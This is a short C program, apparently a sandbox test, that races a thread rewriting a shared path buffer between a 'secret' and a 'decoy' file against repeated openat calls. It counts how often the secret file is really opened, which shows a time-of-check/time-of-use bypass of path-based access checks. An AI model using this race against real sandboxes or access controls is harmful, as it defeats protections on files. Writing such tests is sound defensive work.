/* SPDX-License-Identifier: Apache-2.0 */
/* A thread rewrites the path of an open while the kernel works on it. */
#include "bypass.h"
static char path[PATH_MAX];
static char secret[PATH_MAX], decoy[PATH_MAX];
static atomic_bool is_done;

static void *rewrite(void *nothing)
{
	while (!is_done) {
		strcpy(path, secret);
		strcpy(path, decoy);
	}
	return nothing;
}

/* A thousand races; how often the secret was what was really opened is told. */
int main(int count, char **arguments)
{
	int opened = 0, races = 0;
	pthread_t thread;
	ino_t wanted;

	(void)count;
	snprintf(secret, sizeof(secret), "%s/secret", arguments[1]);
	snprintf(decoy, sizeof(decoy), "%s/decoy", arguments[1]);
	strcpy(path, decoy);
	struct stat file;
	NEED(!stat(secret, &file));
	wanted = file.st_ino;
	pthread_create(&thread, NULL, rewrite, NULL);
	for (; races < 1000 || (!opened && races < 1000000); races++) {
		int fd = openat(AT_FDCWD, path, O_RDONLY);

		opened += inode_of(fd) == wanted;
		close(fd);
	}
	is_done = true;
	pthread_join(thread, NULL);
	printf("times %d\n", opened);
	return 0;
}
